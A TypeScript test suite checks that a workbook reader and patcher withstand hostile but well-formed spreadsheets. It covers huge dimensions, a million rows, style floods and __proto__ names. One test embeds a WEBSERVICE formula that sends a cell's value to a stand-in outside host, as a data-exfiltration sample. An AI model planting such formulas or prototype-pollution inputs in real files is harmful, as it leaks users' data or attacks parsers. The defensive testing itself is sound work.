import assert from 'node:assert/strict';
import type { Buffer } from 'node:buffer';
import { defaultLimits } from '#engine/adapters/workbook/package/limits';
import { patchWorkbook } from '#engine/adapters/workbook/patch/patch-workbook';
import { readWorkbook } from '#engine/adapters/workbook/read/read-workbook';
import type { ReadWorkbook } from '#engine/contract/model/cells';
import { mainNamespace, plainWorkbook, relationship, sheetOf, xmlHead } from '#test/support/corpus/plain-workbook';

/** Opens within a second. */
function opened(bytes: Uint8Array): ReadWorkbook {
  const started = performance.now();
  const read = readWorkbook(bytes);
  assert.ok(performance.now() - started < 3_000, 'opens in bounded time');
  assert.ok(read.ok, read.ok ? '' : read.error.message);
  return read.value;
}

const one = '<c r="A1"><v>1</v></c>';

describe('reading hostile but well-formed workbooks', () => {
  it('[H20] a stated dimension of the whole grid costs nothing', () => {
    const inner = `<dimension ref="A1:XFD1048576"/><sheetData><row r="1">${one}</row></sheetData>`;
    assert.equal(opened(plainWorkbook({ sheets: [{ name: 'S', inner }] })).sheets[0]?.cells.length, 1);
  });

  it('[H21] cells in the far corner or outside the grid are left out and counted', () => {
    const far =
      '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row><row r="9999999"><c r="ZZZZ9999999"><v>3</v></c></row>';
    const sheet = opened(sheetOf(`<row r="1">${one}<c r="IW1"><v>9</v></c></row>${far}`)).sheets[0];
    assert.equal(sheet?.cells.length, 1);
    assert.equal(sheet.leftOut, 3);
  });

  it('[H22] merges and validations over the whole sheet are not walked, in reading or patching', () => {
    const after =
      '<mergeCells count="1"><mergeCell ref="B2:XFD1048576"/></mergeCells>' +
      '<dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>1</formula1></dataValidation></dataValidations>';
    const bytes = sheetOf(`<row r="1">${one}</row>`, after);
    assert.equal(opened(bytes).sheets[0]?.cells.length, 1);
    const patched = patchWorkbook(bytes, {
      edits: [{ sheet: 'Sheet1', row: 1, column: 1, value: 2, owned: false }],
      appends: [],
    });
    assert.ok(patched.ok);
  });

  it('[H23] of a million rows the first 20,000 are read and the rest is counted', () => {
    const rows = Array.from({ length: 1_000_000 }, (_, index) => `<row><c><v>${index % 997}</v></c></row>`).join('');
    const sheet = opened(sheetOf(rows)).sheets[0];
    assert.equal(sheet?.cells.length, defaultLimits.rows);
    assert.equal(sheet.leftOut, 1_000_000 - defaultLimits.rows);
  });

  it('[H24] names such as __proto__ are names like any other and reach no prototype', () => {
    const text = (cell: string, value: string): string => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`;
    const rows = `<row r="1">${text('A1', '__proto__')}${text('B1', 'constructor')}</row><row r="2">${text('A2', 'x')}</row>`;
    const table =
      `${xmlHead}<table xmlns="${mainNamespace}" id="1" name="__proto__" displayName="__proto__" ref="A1:B2">` +
      '<tableColumns count="2"><tableColumn id="1" name="__proto__"/><tableColumn id="2" name="constructor"/></tableColumns></table>';
    const bytes = plainWorkbook({
      sheets: [
        {
          name: '__proto__',
          inner: `<sheetData>${rows}</sheetData><tableParts count="1"><tablePart r:id="rId1"/></tableParts>`,
        },
      ],
      after: '<definedNames><definedName name="__proto__">__proto__!$A$1</definedName></definedNames>',
      sheetRelationships: { 1: relationship('rId1', 'table', '../tables/table1.xml') },
      parts: [{ name: 'xl/tables/table1.xml', content: table }],
    });
    const workbook = opened(bytes);
    assert.equal(workbook.sheets[0]?.name, '__proto__');
    assert.deepEqual(workbook.sheets[0].tables[0]?.headers, ['__proto__', 'constructor']);
    assert.deepEqual(Object.keys(workbook.names), ['__proto__']);
    assert.equal(Object.getPrototypeOf(workbook.names), null);
    const rowsToAdd = [Object.fromEntries([['constructor', 'y']])];
    const patched = patchWorkbook(bytes, { edits: [], appends: [{ table: '__proto__', rows: rowsToAdd }] });
    assert.ok(patched.ok);
    assert.equal(opened(patched.value.bytes).sheets[0]?.cells.at(-1)?.value, 'y');
    assert.equal(({} as Record<string, unknown>)['x'], undefined);
  });

  it('[H25] more filled cells than the budget are refused, not read into memory', () => {
    const bytes: Buffer = sheetOf(`<row r="1">${one}<c r="B1"><v>1</v></c><c r="C1"><v>1</v></c></row>`);
    const read = readWorkbook(bytes, { ...defaultLimits, cells: 2 });
    assert.equal(read.ok ? '' : read.error.code, 'too-many-cells');
  });

  it('[H26] more cell styles than 100,000 are refused', () => {
    const formats = Array.from({ length: 100_001 }, (_, index) => `<xf numFmtId="${(index * 7919) % 10_007}"/>`);
    const styles = `<cellXfs>${formats.join('')}</cellXfs>`;
    const read = readWorkbook(plainWorkbook({ sheets: [{ name: 'S', inner: '<sheetData/>' }], styles }));
    assert.equal(read.ok ? '' : read.error.code, 'too-many-styles');
  });

  it('[H27] outside links are not followed: what was cached is read, and the formula is told', () => {
    const cell = '<c r="A1" t="str"><f>WEBSERVICE("http://example.test/?q="&amp;B1)</f><v>cached</v></c>';
    const cells = opened(sheetOf(`<row r="1">${cell}</row>`)).sheets[0]?.cells;
    assert.equal(cells?.[0]?.value, 'cached');
    assert.equal(cells[0]?.formula, 'WEBSERVICE("http://example.test/?q="&B1)');
  });
});
